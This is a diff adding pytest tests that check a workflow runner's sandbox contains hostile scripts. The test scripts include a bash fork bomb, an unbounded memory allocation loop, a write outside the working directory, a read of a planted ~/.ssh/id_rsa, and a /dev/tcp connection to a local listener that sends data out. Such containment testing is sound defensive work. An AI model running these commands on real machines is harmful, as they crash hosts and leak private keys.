@@ -282,3 +282,70 @@ def test_cannot_inject_into_the_parent_terminal(tmp_path: Path, workdir: Path) -
     assert b"blocked:" in output
     assert b"injected" not in output
     assert last_run()["status"] == "failed"
+
+
+def test_fork_bomb_is_contained_and_recorded(tmp_path: Path, workdir: Path) -> None:
+    add("bomb", ":(){ :|:& };:\nsleep 3\n", tmp_path, "  max_processes: 64\n")
+    began = time.monotonic()
+    wf("run", "bomb", "--timeout", "20")
+    assert time.monotonic() - began < 60
+    run = last_run()
+    assert run["status"] in ("success", "failed", "timeout")
+    assert "Resource temporarily unavailable" in str(run["stderr"]), "the process limit was hit"
+    ps = subprocess.run(["ps", "-eo", "comm"], capture_output=True, text=True, check=True).stdout
+    assert ps.count("bash") < 20, "no bomb processes survive the run"
+
+
+def test_memory_bomb_is_killed_and_classified_oom(tmp_path: Path, workdir: Path) -> None:
+    code = "python3 -c 'blocks = []\nwhile True: blocks.append(bytearray(50 * 1024 * 1024))'\n"
+    add("hog", code, tmp_path, "  memory_mb: 200\n")
+    proc = wf("run", "hog", "--timeout", "60")
+    assert proc.returncode == 1
+    run = last_run()
+    assert run["status"] == "failed"
+    assert run["failure_class"] == "oom"
+
+
+def landlock_usable() -> bool:
+    from workflow_agent.execution.confine import landlock_abi, seccomp_available
+
+    return landlock_abi() > 0 and seccomp_available()
+
+
+@pytest.mark.skipif(not landlock_usable(), reason="the kernel offers no Landlock/seccomp")
+def test_landlock_fallback_holds_files_network_and_secrets(
+    tmp_path: Path, workdir: Path, listener: tuple[int, list[bytes]]
+) -> None:
+    port, received = listener
+    home = tmp_path / "userhome"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("KEYMATERIAL123\n")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    code = (
+        "echo inside > ./fine.txt\n"
+        'echo scratch > "$TMPDIR/t" && echo tmp-ok\n'
+        f'echo pwned > "{outside}/pwned.txt"\n'
+        "cat ~/.ssh/id_rsa\n"
+        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo leaked >&3\n"
+        "exit 0\n"
+    )
+    add("boxed", code, tmp_path)
+    proc = wf("run", "boxed", "--sandbox", "landlock", env={**os.environ, "HOME": str(home)})
+    assert proc.returncode == 0, proc.stderr
+    assert "Landlock" in proc.stderr, "the fallback says so on every run"
+    assert (workdir / "fine.txt").read_text() == "inside\n"
+    assert "tmp-ok" in proc.stdout
+    assert not (outside / "pwned.txt").exists()
+    assert "KEYMATERIAL123" not in proc.stdout
+    time.sleep(0.3)
+    assert received == []
+    assert last_run()["sandbox"] == "landlock"
+
+
+def test_sandbox_none_is_loud(tmp_path: Path, workdir: Path) -> None:
+    add("plain", "echo hi\n", tmp_path)
+    proc = wf("run", "plain", "--sandbox", "none")
+    assert proc.returncode == 0
+    assert "NONE" in proc.stderr
+    assert last_run()["sandbox"] == "none"
